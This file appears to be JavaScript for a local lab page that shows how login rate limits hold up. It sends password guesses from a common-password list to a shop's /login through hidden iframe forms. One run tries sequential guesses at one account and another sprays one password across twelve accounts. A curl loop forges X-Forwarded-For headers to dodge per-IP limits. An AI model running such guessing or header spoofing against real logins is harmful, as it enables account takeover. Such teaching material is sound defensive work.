// Sends guesses to the login of the shop, each from a form in a frame.

const asked = new URLSearchParams(location.search).get('service');
const shop = document.querySelector('#service');
if (asked && /^http:\/\/(127\.0\.0\.1|localhost):\d+\/?$/.test(asked)) {
  shop.href = asked;
  shop.textContent = asked;
}

const GUESSES = ['123456', 'password', 'qwerty', 'letmein', 'dragon', 'sunshine', 'grape'];
const account = GUESSES.map((password) => ({ user: 'grace', password }));
const client = Array.from({ length: 12 }, (_, n) => ({ user: `user${n + 1}`, password: '123456' }));

const answers = document.querySelector('#answers');
const sent = document.querySelector('#sent');
let busy = false;
let frames = 0;

// The answers stand in the order of the guesses, so those at one account are
// sent one after the other. A browser opens several connections only for what
// is sent at once.
async function send(guesses, atOnce) {
  if (busy) return;
  busy = true;
  sent.textContent = '';
  answers.replaceChildren();
  const all = [];
  for (const guess of guesses) {
    const answered = post(guess);
    all.push(answered);
    if (!atOnce) await answered;
  }
  await Promise.all(all);
  sent.textContent = `${guesses.length} guesses are answered. The answers are in the frames.`;
  busy = false;
}

// Ends when the answer is in the frame.
function post({ user, password }) {
  frames += 1;
  const frame = document.createElement('iframe');
  frame.name = `answer${frames}`;
  frame.title = `The answer to ${user}, ${password}`;
  const item = document.createElement('li');
  item.append(`${answers.children.length + 1}. ${user}, ${password}`, frame);
  answers.append(item);

  const form = document.createElement('form');
  form.method = 'post';
  form.action = new URL('/login', shop.href).href;
  form.target = frame.name;
  form.hidden = true;
  for (const [field, value] of Object.entries({ user, password })) {
    const input = document.createElement('input');
    input.name = field;
    input.value = value;
    form.append(input);
  }
  item.append(form);
  return new Promise((resolve) => {
    frame.addEventListener('load', () => {
      // The empty page that a frame begins with is of this origin.
      if (frame.contentDocument === null) resolve();
    });
    form.submit();
  });
}

document.querySelector('#account').addEventListener('click', () => send(account, false));
document.querySelector('#client').addEventListener('click', () => send(client, true));

document.querySelector('#forged').textContent =
  "for n in $(seq 12); do curl -s -o /dev/null -w '%{http_code} ' " +
  '-H "X-Forwarded-For: 192.0.2.$n" ' +
  `-d "user=u$n&password=x" ${new URL('/login', shop.href)}; done`;
